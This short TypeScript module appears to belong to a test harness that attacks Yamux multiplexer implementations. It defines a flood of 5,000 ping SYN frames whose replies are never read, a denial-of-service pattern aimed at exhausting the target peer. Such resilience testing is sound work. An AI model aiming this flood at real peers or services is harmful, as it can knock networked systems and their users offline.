/** A member: Yamux pings whose answers it never takes off the wire. */
import { memberFlooding } from '../attack/member.js'
import type { Behaviour } from '../attack/target.js'
import { FLAG, FRAME, header } from '../attack/wire.js'

const PINGS = Buffer.concat(Array.from({ length: 5_000 }, (_, id) => header(FRAME.ping, FLAG.syn, 0, id)))

export const attack: Behaviour = async (target, signal) => memberFlooding(target, signal, () => PINGS, { reads: false })
